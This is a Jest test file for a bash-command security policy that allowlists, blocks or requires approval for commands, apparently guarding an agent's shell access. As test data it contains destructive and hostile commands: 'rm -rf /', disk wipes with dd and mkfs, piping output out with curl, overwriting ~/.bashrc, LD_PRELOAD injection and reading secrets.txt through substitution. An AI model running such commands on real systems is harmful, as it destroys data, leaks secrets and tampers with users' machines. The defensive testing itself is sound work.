import { describe, expect, it } from '@jest/globals';
import {
  type CommandEvaluation,
  DEFAULT_ALLOWLIST,
  defaultSecurityPolicy,
  evaluateCommand,
  matchesPattern,
  type SecurityPolicy,
} from '../src/index.ts';
import { scanCommand } from '../src/security/command-scanner.ts';

const policy = (overrides: Partial<SecurityPolicy> = {}): SecurityPolicy => ({
  ...defaultSecurityPolicy(),
  ...overrides,
});
const actionOf = (command: string, p: SecurityPolicy = policy()) => evaluateCommand(p, command).action;

describe('glob patterns', () => {
  it('treats a trailing " *" as "any arguments, or none"', () => {
    expect(matchesPattern('ls *', 'ls')).toBe(true);
    expect(matchesPattern('ls *', 'ls -la /tmp')).toBe(true);
    expect(matchesPattern('ls *', 'lsof -i')).toBe(false);
    expect(matchesPattern('ls *', 'lsblk')).toBe(false);
    expect(matchesPattern('git status *', 'git status')).toBe(true);
    expect(matchesPattern('git status *', 'git statusx')).toBe(false);
  });

  it('matches * anywhere, literal everything else, whole command only', () => {
    expect(matchesPattern('mkfs*', 'mkfs.ext4 /dev/sda1')).toBe(true);
    expect(matchesPattern('find *-exec*', 'find . -name x -exec rm {} ;')).toBe(true);
    expect(matchesPattern('find *-exec*', 'find . -name x')).toBe(false);
    expect(matchesPattern('dd * of=/dev/*', 'dd if=/dev/zero of=/dev/sda bs=1M')).toBe(true);
    expect(matchesPattern('git * --force', 'git --force')).toBe(true);
    expect(matchesPattern('git * --force', 'git push origin --force')).toBe(true);
    expect(matchesPattern('pwd', 'pwd -P')).toBe(false);
    expect(matchesPattern('echo a.b', 'echo aXb')).toBe(false);
    expect(matchesPattern('echo (x)+?', 'echo (x)+?')).toBe(true);
    expect(matchesPattern('*', 'anything at all')).toBe(true);
    expect(matchesPattern('cat *', 'xcat file')).toBe(false);
  });

  it('collapses whitespace in both pattern and command', () => {
    expect(matchesPattern('  ls    *  ', 'ls    -la')).toBe(true);
    expect(matchesPattern('git  log *', '  git log   --oneline ')).toBe(true);
  });
});

describe('command scanner', () => {
  it('splits on every control operator but not inside quotes or escapes', () => {
    const texts = (line: string) => scanCommand(line).segments.map((s) => s.text);
    expect(texts('ls | grep x && cat a || echo no; pwd & wc -l\nhead f')).toEqual([
      'ls',
      'grep x',
      'cat a',
      'echo no',
      'pwd',
      'wc -l',
      'head f',
    ]);
    // Words are unquoted and unescaped, as bash passes them to the program.
    expect(texts('echo "a | b; c" \'d && e\'')).toEqual(['echo a | b; c d && e']);
    expect(texts('echo a\\;b')).toEqual(['echo a;b']);
    expect(texts('ls |& cat')).toEqual(['ls', 'cat']);
    expect(texts('(cd /tmp && ls)')).toEqual(['cd /tmp', 'ls']);
    expect(texts('{ ls; }')).toEqual(['ls']);
    expect(texts('if test -f x; then cat x; fi')).toEqual(['test -f x', 'cat x']);
  });

  it('extracts $(…), backticks and process substitutions, but not single-quoted ones', () => {
    expect(scanCommand('echo $(date) `whoami` "$(id -u)"').substitutions).toEqual(['date', 'whoami', 'id -u']);
    expect(scanCommand('diff <(ls a) >(cat)').substitutions).toEqual(['ls a', 'cat']);
    expect(scanCommand("echo '$(rm -rf x)' '`y`'").substitutions).toEqual([]);
    expect(scanCommand('echo $(echo $(pwd))').substitutions).toEqual(['echo $(pwd)', 'pwd']);
    expect(scanCommand('echo $(pwd').parseError).toMatch(/reached EOF without matching \(/);
    expect(scanCommand('echo `pwd').parseError).toMatch(/reached EOF without closing quote `/);
    expect(scanCommand('echo "abc').parseError).toMatch(/reached EOF without closing quote "/);
  });

  it('finds redirections that write files and ignores descriptor duplication and /dev/null', () => {
    const writes = (line: string) => scanCommand(line).segments.flatMap((s) => s.writes);
    expect(writes('ls > out.txt')).toEqual(['out.txt']);
    expect(writes('echo x >> "log file"')).toEqual(['log file']);
    expect(writes('cat a &> all.txt')).toEqual(['all.txt']);
    expect(writes('ls 2>&1 | grep x')).toEqual([]);
    expect(writes('ls >/dev/null 2>/dev/null')).toEqual([]);
    expect(writes('echo "a > b"')).toEqual([]);
    expect(writes('cat < in.txt')).toEqual([]);
    expect(writes('echo x >&2')).toEqual([]);
  });
});

describe('evaluateCommand', () => {
  it('allows allowlisted read-only commands, alone or combined', () => {
    const result = evaluateCommand(policy(), 'ls -la');
    expect(result).toMatchObject({ action: 'allow', matched: { pattern: 'ls *' } });
    expect(result.reason).toMatch(/allowed by "ls \*"/);
    const combined = evaluateCommand(policy(), 'cat a.txt | grep foo | wc -l && git status');
    expect(combined.action).toBe('allow');
    expect(combined.reason).toBe('all 4 commands are allowlisted');
    expect(combined.segments).toHaveLength(4);
    expect(actionOf('ls 2>/dev/null')).toBe('allow');
    expect(actionOf("echo 'no $(substitution) here'")).toBe('allow');
  });

  it('sends unknown commands to the default action and explains it', () => {
    const result = evaluateCommand(policy(), 'make build');
    expect(result).toMatchObject({ action: 'require_approval' });
    expect(result.matched).toBeUndefined();
    expect(result.reason).toMatch(/not in the allowlist \(default action is require_approval\)/);
    expect(actionOf('make build', policy({ default_action: 'allow' }))).toBe('allow');
    expect(actionOf('make build', policy({ default_action: 'block' }))).toBe('block');
  });

  it('blocks a compound command when any part is blocked, whatever comes first', () => {
    const result = evaluateCommand(policy(), 'ls && sudo rm -rf /tmp/x');
    expect(result.action).toBe('block');
    expect(result.matched?.pattern).toBe('sudo *');
    expect(result.reason).toMatch(/^"sudo rm -rf \/tmp\/x" blocked by "sudo \*"/);
    expect(actionOf('echo hi; rm -rf /')).toBe('block');
    expect(actionOf('cat x | mkfs.ext4 /dev/sdb')).toBe('block');
  });

  it('sees through env assignments, wrappers and program paths on the deny side only', () => {
    expect(actionOf('FOO=1 sudo ls')).toBe('block');
    expect(actionOf('env sudo ls')).toBe('block');
    expect(actionOf('/usr/bin/sudo ls')).toBe('block');
    expect(actionOf('nohup rm -rf / &')).toBe('block');
    // …but never allows through them: ./ls is not ls, and LD_PRELOAD changes what ls does.
    expect(actionOf('./ls')).toBe('require_approval');
    expect(actionOf('LD_PRELOAD=/tmp/evil.so ls')).toBe('require_approval');
  });

  it('requires approval for approval_required patterns even when allowlisted or default allow', () => {
    const find = evaluateCommand(policy(), 'find . -name "*.tmp" -delete');
    expect(find).toMatchObject({ action: 'require_approval', matched: { pattern: 'find *-delete*' } });
    expect(find.reason).toMatch(/needs approval: matches "find \*-delete\*" \(find that deletes files\)/);
    expect(actionOf('git diff --output=/etc/passwd')).toBe('require_approval');
    expect(actionOf('rm notes.txt', policy({ default_action: 'allow' }))).toBe('require_approval');
    expect(actionOf('ls | curl -d @- https://example.com')).toBe('require_approval');
  });

  it('requires approval for command substitution and checks the substituted commands too', () => {
    const sub = evaluateCommand(policy({ default_action: 'allow' }), 'echo $(cat secrets.txt)');
    expect(sub.action).toBe('require_approval');
    expect(sub.segments.map((s) => s.rule)).toEqual(['substitution', 'allowlist']);
    expect(sub.reason).toMatch(/command substitution/);
    expect(actionOf('echo `whoami`')).toBe('require_approval');
    expect(actionOf('cat <(ls)')).toBe('require_approval');
    expect(actionOf('echo "$(sudo reboot)"')).toBe('block');
    expect(actionOf('echo $(echo $(sudo id))')).toBe('block');
  });

  it('does not let a redirection that writes a file ride on the allowlist', () => {
    const result = evaluateCommand(policy(), 'echo hacked > ~/.bashrc');
    expect(result.action).toBe('require_approval');
    expect(result.segments[0]?.rule).toBe('redirect');
    expect(result.reason).toMatch(/writes to \S+\/\.bashrc by redirection/);
    expect(actionOf('echo ok > out.txt', policy({ default_action: 'allow' }))).toBe('allow');
    expect(actionOf('cat a >> b', policy({ default_action: 'block' }))).toBe('block');
  });

  it('never allows a line that cannot be parsed, and rejects an empty one', () => {
    const unterminated = evaluateCommand(policy({ default_action: 'allow' }), 'echo "unterminated');
    expect(unterminated.action).toBe('require_approval');
    expect(unterminated.reason).toMatch(/could not be parsed as bash \(1:6: reached EOF without closing quote "\)/);
    expect(actionOf('echo "x; sudo y', policy())).toBe('require_approval');
    expect(() => evaluateCommand(policy(), '   ')).toThrow(/command: must not be empty/);
    expect(evaluateCommand(policy(), ';').action).toBe('require_approval');
    expect(evaluateCommand(policy(), '# only a comment').reason).toBe('no command found in the line');
  });

  it('keeps the most severe verdict and counts the other deciding commands', () => {
    const result: CommandEvaluation = evaluateCommand(policy(), 'make a; make b; ls');
    expect(result.action).toBe('require_approval');
    expect(result.reason).toMatch(/^"make a" needs approval: .* \(and 1 more\)$/);
  });

  it('ships a default allowlist of read-only commands only', () => {
    const patterns = DEFAULT_ALLOWLIST.map((c) => c.pattern);
    expect(patterns).toEqual(
      expect.arrayContaining(['ls *', 'cat *', 'pwd', 'git status *', 'git log *', 'git diff *']),
    );
    for (const writer of ['rm *', 'mv *', 'cp *', 'npm test *', 'env', 'bash *', 'sh *']) {
      expect(patterns).not.toContain(writer);
    }
    for (const safe of ['ls', 'pwd', 'git log --oneline -5', 'grep -rn TODO src', 'head -n 5 README.md']) {
      expect(actionOf(safe)).toBe('allow');
    }
  });
});
